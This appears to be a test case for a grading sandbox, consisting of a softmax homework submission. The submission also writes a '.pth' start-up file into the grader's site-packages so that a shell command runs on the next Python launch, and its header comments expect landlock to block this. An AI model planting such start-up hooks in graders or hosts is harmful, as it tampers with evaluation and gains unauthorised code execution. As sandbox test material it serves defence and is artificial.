# expect: error; earned 0; says "[Errno 13]"
# way: Writes a start-up file for the next Python of whoever grades.
# section: the TA and the platform
# stopped by: landlock
import site
from pathlib import Path

Path(site.getsitepackages()[0], "gained-by-an-attack.pth").write_text("import os; os.system('id')")


def softmax(scores, dim=-1, temperature=1.0):
    if temperature <= 0:
        raise ValueError
    powers = (scores / temperature - (scores / temperature).amax(dim, keepdim=True)).exp()
    return powers / powers.sum(dim, keepdim=True)
